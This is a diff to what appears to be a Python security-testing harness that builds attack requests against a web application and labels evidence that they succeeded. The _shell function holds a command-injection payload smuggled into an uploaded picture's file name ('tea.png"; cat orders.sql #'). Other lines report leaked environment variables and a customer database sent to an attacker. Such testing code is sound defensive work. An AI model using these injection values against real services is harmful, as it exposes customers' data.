@@ -55,7 +55,7 @@ def attacks(neighbours: Neighbours) -> tuple[Attack, ...]:
 
 
 def _shell() -> Call:
-    name = 'tea.png"; cat orders.sql #.png'
+    name = 'tea.png"; cat orders.sql #'
     picture = base64.b64encode(gradient(8, 8)).decode()
     return Call("POST /pictures", ADA, body={"name": name, "picture": picture})
 
@@ -108,7 +108,7 @@ class _Smuggler:
 def _database_shown(evidence: Evidence) -> str:
     if "INSERT INTO orders" not in evidence.body:
         return ""
-    return f"ran cat: the whole database, {_others(evidence.body)} other customers"
+    return f"ran cat: the database, {_others(evidence.body)} other customers"
 
 
 def _orders_shown(evidence: Evidence) -> str:
@@ -144,7 +144,7 @@ def _environment_sent(evidence: Evidence) -> str:
     if not evidence.hits:
         return ""
     sent = b"".join(hit.body for hit in evidence.hits).decode(errors="replace")
-    return f"sent /proc/self/environ to the attacker: {_names(evidence.secret, sent)}"
+    return f"sent out {_names(evidence.secret, sent)}"
 
 
 def _database_sent(evidence: Evidence) -> str:
@@ -152,7 +152,7 @@ def _database_sent(evidence: Evidence) -> str:
         return ""
     sent = b"".join(hit.body for hit in evidence.hits)
     what = "orders.db" if sent.startswith(b"SQLite format 3") else "data"
-    return f"sent {what} ({len(sent):,} bytes) to the attacker"
+    return f"sent out {what}: {len(sent):,} bytes"
 
 
 def _others(text: str) -> int:
